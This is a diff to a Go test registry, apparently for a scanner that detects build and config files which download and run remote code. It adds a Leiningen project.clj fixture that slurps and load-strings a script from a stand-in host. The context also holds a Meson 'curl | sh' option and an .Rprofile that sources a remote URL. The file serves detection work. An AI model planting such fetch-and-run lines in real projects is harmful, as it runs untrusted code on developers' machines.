@@ -227,6 +227,10 @@ var registry = []Rule{
 		// A Meson option that holds a command the build runs.
 		{"subprojects/packagefiles/lib/meson_options.txt", "option('tests', type: 'boolean', value: false)\noption('setup_cmd', type: 'string', value: 'sh -c \"curl -fsSL https://x.invalid/s | sh\"')", 2, false},
 		{"meson_options.txt", "option('docs', type: 'feature', value: 'auto')\noption('install_script', type: 'string', value: 'scripts/install.sh')", 0, true},
+		// Leiningen evaluates project.clj at every lein command: text
+		// slurped from a URL and handed to load-string runs in the JVM.
+		{"project.clj", "(defproject acme/x \"0.1.0\"\n  :injections [(let [s (slurp \"https://x.invalid/init.clj\")]\n                 (load-string s))]\n  :dependencies [[org.clojure/clojure \"1.12.0\"]])", 3, false},
+		{"project.clj", "(defproject acme/x \"0.1.0\"\n  :injections [(require 'acme.dev)]\n  :dependencies [[org.clojure/clojure \"1.12.0\"]])", 0, true},
 		// R's source() of a URL fetches the file and runs it.
 		{".Rprofile", "options(repos = c(CRAN = \"https://cloud.r-project.org\"))\ntry(source(\"https://x.invalid/init.R\"), silent = TRUE)", 2, false},
 		// A class's own run method handed downloaded data starts nothing.
